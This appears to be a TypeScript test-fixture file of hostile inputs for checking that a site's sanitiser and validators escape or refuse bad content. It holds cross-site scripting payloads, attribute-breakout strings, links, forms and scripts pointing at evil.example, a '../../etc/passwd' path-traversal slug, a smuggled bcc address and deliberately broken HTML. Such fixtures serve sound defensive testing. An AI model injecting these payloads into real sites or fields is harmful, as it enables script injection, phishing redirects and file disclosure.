/** Content from attackers, word processors and careless editors. It is fixed, so that every run sees the same documents. */

/** Markup in plain-text fields: it must be shown as text. */
export const hostilePlain: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror=alert(1)> <b>bold</b> & "quotes" \'single\'',
  '</title></script></style></textarea>--><svg onload=alert(1)> &lt;b&gt; &amp;amp; <!-- ]]> {{7*7}}',
  '" onmouseover="alert(1)" x="',
];

/** Rich text from attackers, word processors and careless editors. */
export const hostileHtml: readonly { readonly name: string; readonly html: string }[] = [
  {
    name: 'scripts and handlers',
    html: '<script>alert(1)</script><p onclick="alert(1)">Words <img src=x onerror=alert(1)><svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg></p><SCRIPT SRC=//evil.example/x.js></SCRIPT>after',
  },
  {
    name: 'links that run code',
    html: '<p><a href="javascript:alert(1)">one</a> <a href=" java\tscript:alert(1)">two</a> <a href="data:text/html,x">three</a> <a href="vbscript:x">four</a> <a href="//evil.example">five</a> <a href="/\\evil.example">six</a> <a href="https://a:b@evil.example/">seven</a></p>',
  },
  {
    name: 'unclosed tags',
    html: '<div><p>One <strong>two <em>three<ul><li>four<li><a href="/contact">five<table><tr><td>six<h2>seven<blockquote>eight',
  },
  {
    name: 'tags closed in the wrong place',
    html: '</div></main></body></html><b><p>a</b>b</p></section><a href="/contact"><p>c</a>d</p></li></ul><!-- never closed <p>e</p>',
  },
  {
    name: 'style, frames, forms and meta',
    html: '<style>*{display:none}</style><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="email"><button>Send</button></form><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css"><p style="position:fixed;inset:0" class="x">Words</p>',
  },
  {
    name: 'nested tables',
    html: '<table><caption>Fees</caption><tr><th>Item</th><th scope="col">Fee</th></tr><tr><td><table><tr><td>inner</td></tr></table></td><td colspan="2">150</td></tr></table><table></table><table><tbody><tr></tr></tbody></table>stray<tr><td>cell</td></tr>',
  },
  {
    name: 'headings out of order',
    html: '<h1>First</h1><p>a</p><h4>Skipped</h4><p>b</p><h6>Deepest</h6><h2>Second</h2><h5>Skipped again</h5><h1>Another first</h1><p>c</p>',
  },
  {
    name: 'empty headings, paragraphs and links',
    html: '<h2></h2><h3>&nbsp;</h3><h2><br></h2><h3><strong> </strong></h3><h2><a href="/contact"></a></h2><h3><img src="/assets/logo"></h3><p>&nbsp;</p><p>Words <a href="/about"></a><a href="/about"> </a><a href="/contact"><span>\u200b</span></a><a>no address</a></p><ul><li></li></ul>',
  },
  {
    name: 'ids that the page has itself',
    html: '<h2 id="main">a</h2><h2 id="state">b</h2><h2 id="root">c</h2><h2 id="menu">d</h2><h3 id="faq">e</h3><h3 id="enquiry">f</h3><h2 id="share">g</h2><p><a href="#main">h</a></p>',
  },
  {
    name: 'links and headings within each other',
    html: '<h2>Heading <a href="/contact">with link</a></h2><a href="/about"><h3>Link around heading</h3><p>and text</p></a><a href="/a">outer <a href="/b">inner</a></a><h3><h4>within</h4></h3><p><button>press</button><label>l</label></p>',
  },
  {
    name: 'lists and pictures of word processors',
    html: '<ul><ul><li>deep</li></ul><p>loose</p></ul><li>stray</li><dl><p>x</p><dt>term<dd>meaning</dl><dl><dd>only</dd></dl><p><img src="/assets/logo"><img src="https://example.org/a.png" alt="A chart" width="99999" height="x"><a href="/contact"><img src="/assets/logo"></a></p><figure><figcaption>alone</figcaption></figure><o:p>&nbsp;</o:p><font color="red">red</font>',
  },
];

/** Invalid addresses by format; each is refused for a reason of its own. */
export const hostileAddresses: Readonly<Record<string, string>> = {
  link: 'javascript:alert(1)',
  asset: 'x" onerror="alert(1)',
  https: 'http://evil.example/" onclick="alert(1)',
  email: 'a@b.example?bcc=everyone@evil.example" onclick="alert(1)',
  phone: '123"><script>alert(1)</script>',
  color: 'red;}*{display:none',
  slug: '../../etc/passwd',
  'date-time': '2026-02-31T25:61:00Z',
  date: '2026-02-31',
};
